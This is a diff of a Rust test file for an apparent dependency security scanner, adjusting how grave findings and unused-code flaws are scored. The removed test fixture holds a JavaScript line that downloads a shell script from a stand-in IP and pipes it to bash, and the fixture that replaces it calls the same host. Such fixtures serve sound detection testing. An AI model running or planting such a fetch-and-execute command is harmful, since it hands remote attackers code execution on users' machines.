@@ -62,11 +62,9 @@ fn a_clean_installation_passes_and_says_what_was_judged() {
     assert!(report["summary"].as_str().unwrap().ends_with("The same holds for the 1 package that come with it."), "{}", report["summary"]);
 }
 
-/// Reads a credential store without sending it anywhere: grave, but no theft.
-const GRAVE: &str = "const fs = require('fs');
-const os = require('os');
-const { exec } = require('child_process');
-exports.run = () => exec('bash -c \"$(curl -fsSL http://192.0.2.7/x.sh)\"');
+/// Asks a machine that nobody has named, once somebody calls it: grave, but no theft.
+const GRAVE: &str = "const https = require('https');
+exports.run = (done) => https.get('https://192.0.2.7/data', done);
 ";
 
 #[test]
@@ -80,7 +78,8 @@ fn a_flaw_in_code_that_is_never_imported_weighs_less() {
     let used = |report: &Value| report["dependencies"]["installation"]["packages"][0]["used"].clone();
     assert_eq!((used(&uses), used(&idles)), (json!(true), json!(false)));
     let score = |report: &Value| report["score"]["value"].as_u64().unwrap();
-    assert!(score(&uses) <= score(&idles), "{} {}", uses["score"], idles["score"]);
+    assert_eq!((&uses["verdict"], &idles["verdict"]), (&json!("review"), &json!("pass")), "{} {}", uses["score"], idles["score"]);
+    assert!(score(&uses) < score(&idles), "{} {}", uses["score"], idles["score"]);
 }
 
 #[test]
